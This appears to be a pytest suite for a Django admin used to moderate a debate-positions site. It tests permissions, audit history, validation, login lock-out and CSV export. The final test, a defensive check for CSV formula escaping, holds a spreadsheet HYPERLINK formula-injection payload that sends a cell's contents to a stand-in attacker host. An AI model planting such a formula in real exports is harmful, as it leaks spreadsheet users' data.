"""The admin as moderators and superusers meet it: permissions, audit, validation, lock-out."""

import csv
import io
import os
from unittest import mock

import pytest
from django.contrib import admin
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.test import Client

from debates.models import Comment, Position
from members.models import Membership, Organization, Person

PASSWORD = "a-long-and-unguessable-password"
CONTENT = [
    "members/source",
    "members/coalition",
    "members/organization",
    "members/membership",
    "members/person",
    "members/affiliation",
    "debates/topic",
    "debates/policyitem",
    "debates/policystatuschange",
    "debates/policymilestone",
    "debates/release",
    "debates/position",
    "debates/comment",
]
ACCOUNTS = ["auth/user", "auth/group"]


@pytest.fixture
def moderator(db):
    with mock.patch.dict(os.environ, {"MODERATOR_PASSWORD": PASSWORD}):
        call_command("createmoderator", "mona")
    return User.objects.get(username="mona")


@pytest.fixture
def superuser(db):
    return User.objects.create_superuser("root", "root@example.org", PASSWORD)


def client_for(user):
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def urls(model_path, obj_pk):
    base = f"/admin/{model_path}/"
    return {
        "changelist": base,
        "add": base + "add/",
        "change": f"{base}{obj_pk}/change/",
        "delete": f"{base}{obj_pk}/delete/",
    }


def first_pk(model_path):
    app_label, model_name = model_path.split("/")
    model = next(m for m in admin.site._registry if m._meta.label_lower == f"{app_label}.{model_name}")
    return model.objects.order_by("pk").values_list("pk", flat=True).first()


@pytest.fixture
def content(seed, superuser):
    position = Position.objects.first()
    Comment.objects.create(position=position, author_name="A", body_markdown="x", body_html="<p>x</p>")


def test_createmoderator_makes_a_staff_account_in_the_moderators_group(moderator):
    assert moderator.is_staff and not moderator.is_superuser
    assert moderator.groups.filter(name="Moderators").exists()
    assert moderator.check_password(PASSWORD)


def test_createmoderator_refuses_a_weak_password(db):
    with mock.patch.dict(os.environ, {"MODERATOR_PASSWORD": "123"}), pytest.raises(Exception, match="too short"):
        call_command("createmoderator", "weak")
    assert not User.objects.filter(username="weak").exists()


def test_the_moderators_group_has_exactly_the_permissions_of_the_role(db):
    codenames = set(Group.objects.get(name="Moderators").permissions.values_list("codename", flat=True))
    assert "delete_comment" in codenames
    assert {"add_position", "change_position", "add_membership", "change_source"} <= codenames
    assert not {c for c in codenames if c.startswith("delete_") and c != "delete_comment"}
    assert not {c for c in codenames if c.endswith(("_user", "_group", "_permission"))}


VIEWS = ["changelist", "add", "change", "delete"]


@pytest.mark.parametrize("model_path", CONTENT)
def test_permission_matrix_for_content(content, moderator, superuser, model_path):
    anonymous, mod, root = client_for(None), client_for(moderator), client_for(superuser)
    for view, url in urls(model_path, first_pk(model_path)).items():
        assert anonymous.get(url).status_code == 302, url  # to the login page
        assert root.get(url).status_code == 200, url
        moderator_may = view != "delete" or model_path == "debates/comment"
        assert mod.get(url).status_code == (200 if moderator_may else 403), url


@pytest.mark.parametrize("model_path", ACCOUNTS)
def test_only_superusers_manage_accounts(content, moderator, superuser, model_path):
    pk = (User if model_path == "auth/user" else Group).objects.order_by("pk").values_list("pk", flat=True).first()
    mod, root = client_for(moderator), client_for(superuser)
    for url in urls(model_path, pk).values():
        assert mod.get(url).status_code == 403, url
        assert root.get(url).status_code == 200, url


def position_post_data(position, **changes):
    data = {
        "slug": position.slug,
        "speaker": position.speaker_id,
        "organization": position.organization_id or "",
        "form": position.form,
        "quotation": position.quotation,
        "summary": position.summary,
        "stance": position.stance,
        "topics": [t.pk for t in position.topics.all()],
        "said_on": position.said_on or "",
        "date_precision": position.date_precision,
        "venue": position.venue,
        "context": position.context,
        "policy_item": position.policy_item_id or "",
        "integrity": position.integrity,
        "integrity_note": position.integrity_note,
        "sources": [s.pk for s in position.sources.all()],
        "change_reason": "Corrected against the source",
        "_save": "Save",
    }
    data.update(changes)
    return data


class TestAudit:
    def test_an_edit_is_stamped_and_kept_in_history_and_can_be_restored(self, seed, moderator, settings):
        # A small team: the edit goes live (edits held for a publisher: debates/tests/test_revisions.py).
        settings.PORTAL_REVIEW_BEFORE_PUBLISHING = False
        client = client_for(moderator)
        position = Position.objects.get(slug="dario-gil-non-proprietary-and-open")
        original = position.summary
        url = f"/admin/debates/position/{position.pk}/change/"
        response = client.post(url, position_post_data(position, summary="Edited by a moderator."))
        assert response.status_code == 302, response.content.decode()[:2000]
        position.refresh_from_db()
        assert position.summary == "Edited by a moderator."
        assert position.updated_by == moderator

        history_page = client.get(f"/admin/debates/position/{position.pk}/history/").content.decode()
        assert "mona" in history_page and "Corrected against the source" in history_page
        assert "Summary" in history_page  # what changed

        before_edit = position.history.filter(summary=original).order_by("-history_date").first()
        revert_url = f"/admin/debates/position/{position.pk}/history/{before_edit.history_id}/"
        form_page = client.get(revert_url)
        assert form_page.status_code == 200
        assert original in form_page.content.decode()
        restored = position_post_data(before_edit.instance, **{"_save": "Revert"})
        restored["topics"] = [t.pk for t in position.topics.all()]
        restored["sources"] = [s.pk for s in position.sources.all()]
        assert client.post(revert_url, restored).status_code == 302
        position.refresh_from_db()
        assert position.summary == original

    def test_audit_fields_are_read_only_in_the_admin(self, seed, moderator):
        position = Position.objects.first()
        html = client_for(moderator).get(f"/admin/debates/position/{position.pk}/change/").content.decode()
        assert 'name="updated_by"' not in html and 'name="created_at"' not in html
        assert "Created by" in html or "created by" in html.lower()


class TestValidation:
    def test_a_position_needs_a_source(self, seed, moderator):
        position = Position.objects.first()
        data = position_post_data(position, slug="new-one", sources=[])
        response = client_for(moderator).post("/admin/debates/position/add/", data)
        assert "Cite at least one source." in response.content.decode()
        assert not Position.objects.filter(slug="new-one").exists()

    def test_a_position_needs_a_speaker_and_a_stance(self, seed, moderator):
        data = position_post_data(Position.objects.first(), slug="new-one", speaker="", stance="")
        html = client_for(moderator).post("/admin/debates/position/add/", data).content.decode()
        assert html.count("This field is required.") >= 2
        assert not Position.objects.filter(slug="new-one").exists()

    def test_a_quote_must_carry_its_words_and_the_form_must_be_chosen(self, seed, moderator):
        position = Position.objects.first()
        client = client_for(moderator)
        html = client.post(
            "/admin/debates/position/add/", position_post_data(position, slug="q", form="quote", quotation="")
        ).content.decode()
        assert "A direct quote needs its verbatim words" in html
        html = client.post(
            "/admin/debates/position/add/", position_post_data(position, slug="q", form="")
        ).content.decode()
        assert "Mark it as a direct quote or a paraphrase." in html
        assert not Position.objects.filter(slug="q").exists()

    def test_membership_dates_must_be_in_order(self, seed, moderator):
        membership = Membership.objects.first()
        data = {
            "coalition": membership.coalition_id,
            "organization": Organization.objects.get(slug="center-for-humane-technology").pk,
            "role": "member",
            "since": "2024-01-01",
            "since_precision": "day",
            "until": "2023-01-01",
            "sources": [membership.sources.first().pk],
            "_save": "Save",
        }
        html = client_for(moderator).post("/admin/members/membership/add/", data).content.decode()
        assert "“Until” cannot be before “Since”." in html
        assert not Membership.objects.filter(organization__slug="center-for-humane-technology").exists()


class TestLockOut:
    def login(self, client, password):
        return client.post(
            "/admin/login/?next=/admin/", {"username": "mona", "password": password}, REMOTE_ADDR="198.51.100.7"
        )

    def test_repeated_wrong_passwords_lock_the_login_with_a_clear_message(self, moderator, settings):
        client = Client()
        for _ in range(settings.AXES_FAILURE_LIMIT - 1):
            assert self.login(client, "wrong").status_code == 200
        locked = self.login(client, "wrong")
        assert locked.status_code == 429
        assert "Too many failed login attempts" in locked.content.decode()
        again = self.login(client, PASSWORD)
        assert again.status_code == 429  # the right password does not open it either
        call_command("axes_reset_username", "mona")
        assert self.login(client, PASSWORD).status_code == 302

    def test_the_right_password_logs_in(self, moderator):
        assert self.login(Client(), PASSWORD).status_code == 302


def test_export_as_csv_leaves_private_fields_out(seed, moderator):
    position = Position.objects.first()
    Comment.objects.create(
        position=position, author_name="A", email="a@example.org", body_markdown="x", body_html="x", ip_hash="deadbeef"
    )
    response = client_for(moderator).post(
        "/admin/debates/comment/?status=all",
        {"action": "export_as_csv", "_selected_action": [Comment.objects.get().pk]},
    )
    body = b"".join(response.streaming_content).decode()
    assert body.splitlines()[0].startswith("id,")
    assert "a@example.org" not in body and "deadbeef" not in body and "email" not in body.splitlines()[0]


def test_bulk_assign_a_topic(seed, moderator, settings):
    from debates.models import Topic

    settings.PORTAL_REVIEW_BEFORE_PUBLISHING = False  # a small team; with review on: debates/tests/test_revisions.py
    topic = Topic.objects.get(slug="biosecurity")
    pks = list(Position.objects.filter(speaker__slug="yann-lecun").values_list("pk", flat=True))
    client_for(moderator).post(
        "/admin/debates/position/", {"action": "add_topic", "_selected_action": pks, "topic": topic.pk}
    )
    assert Position.objects.filter(pk__in=pks, topics=topic).count() == len(pks) == 5
    assert Position.objects.filter(topics=topic, search_terms__contains="Biosecurity").count() >= 5
    version = Position.objects.get(pk=pks[0]).history.order_by("history_date", "history_id").last()
    assert version.history_user == moderator and "Biosecurity" in version.history_change_reason


def test_export_as_csv_neutralises_formulas(seed, moderator):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    person = Person.objects.get(slug="yann-lecun")
    person.bio = formula
    person.save()
    response = client_for(moderator).post(
        "/admin/members/person/", {"action": "export_as_csv", "_selected_action": [person.pk]}
    )
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["bio"] == "'" + formula
